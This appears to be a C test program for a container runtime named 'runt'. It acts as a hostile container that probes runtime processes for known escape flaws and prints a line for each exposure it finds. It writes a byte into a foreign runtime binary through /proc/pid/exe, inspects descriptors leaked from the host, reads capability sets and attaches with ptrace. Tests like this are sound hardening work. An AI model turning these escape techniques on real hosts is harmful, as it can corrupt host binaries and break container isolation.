// A hostile container: looks at every process that appears in its pid namespace and tries to get
// hold of whatever runt brings along when it execs (CVE-2016-9962, CVE-2019-5736, CVE-2024-21626).
// A line for each thing that it got of a process that still runs runt's own program; at SIGTERM
// how often it has looked.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t ended;
static unsigned long looks, refusals;

static void end(int signal) {
  (void)signal;
  ended = 1;
}

static void got(const char *what, const char *detail) {
  printf("GOT %s %s\n", what, detail);
  fflush(stdout);
}

// What is behind a descriptor of the other process: a directory that is not this container's own.
static void look_behind(const char *path, const char *target) {
  int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) return;
  struct stat root, status;
  struct statfs system;
  int foreign = stat("/", &root) == 0 && fstat(fd, &status) == 0 && status.st_dev != root.st_dev;
  if (foreign && fstatfs(fd, &system) == 0 && system.f_type == PROC_SUPER_MAGIC) {
    char self[32] = "";
    if (readlinkat(fd, "self", self, sizeof self - 1) > 0 && atoi(self) == getpid()) foreign = 0;
  }
  if (foreign) got("directory", target);
  close(fd);
}

static void look_at_descriptors(const char *pid) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *dir = opendir(path);
  if (!dir) return;
  for (struct dirent *entry; (entry = readdir(dir));) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    ssize_t size = readlink(path, target, sizeof target - 1);
    if (size < 0) continue;
    target[size] = '\0';
    if (atoi(entry->d_name) > 2) got("descriptor", target);
    look_behind(path, target);
  }
  closedir(dir);
}

// Opened for writing is not yet written to: a sealed memory file may be opened, and the programs of the
// container are its own (a process that ends lets go of its file).
static void write_to(int fd) {
  struct stat root, status;
  if (stat("/", &root) == 0 && fstat(fd, &status) == 0 && status.st_dev == root.st_dev) return;
  char path[64], target[4096] = "";
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  if (readlink(path, target, sizeof target - 1) > 0 && write(fd, "", 1) == 1) got("writable", target);
}

// What a tracer could make of it: its rights, and those that root gets back with the next program.
static void look_at_rights(const char *pid) {
  char path[300], text[4096] = "";
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t size = read(fd, text, sizeof text - 1);
  close(fd);
  unsigned long long permitted, bounding;
  char *at = size > 0 ? strstr(text, "CapPrm:") : NULL;
  if (!at || sscanf(at, "CapPrm: %llx CapEff: %*x CapBnd: %llx", &permitted, &bounding) != 2) return;
  char rights[32];
  snprintf(rights, sizeof rights, "%llx", permitted | bounding);
  got("rights", rights);
}

static void look(const char *pid) {
  char path[300], exe[4096];
  looks++;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd >= 0) write_to(fd), close(fd);
  ssize_t size = readlink(path, exe, sizeof exe - 1);
  if (size < 0) {
    if (errno == EACCES || errno == EPERM) refusals++;
    return;
  }
  exe[size] = '\0';
  // Once the program of the container runs it is the container's own affair.
  if (!strstr(exe, "runt-init") && !strstr(exe, "runc")) return;
  got("exe", exe);
  look_at_rights(pid);
  look_at_descriptors(pid);
  pid_t other = atoi(pid);
  if (ptrace(PTRACE_SEIZE, other, 0, 0) == 0) {
    got("trace", exe);
    ptrace(PTRACE_INTERRUPT, other, 0, 0);
    waitpid(other, NULL, __WALL);
    ptrace(PTRACE_DETACH, other, 0, 0);
  }
}

int main(void) {
  signal(SIGTERM, end);
  puts("ready");
  fflush(stdout);
  char own[16];
  snprintf(own, sizeof own, "%d", getpid());
  while (!ended) {
    DIR *dir = opendir("/proc");
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own)) continue;
      look(entry->d_name);
    }
    if (dir) closedir(dir);
  }
  printf("looked %lu refused %lu\n", looks, refusals);
  return 0;
}
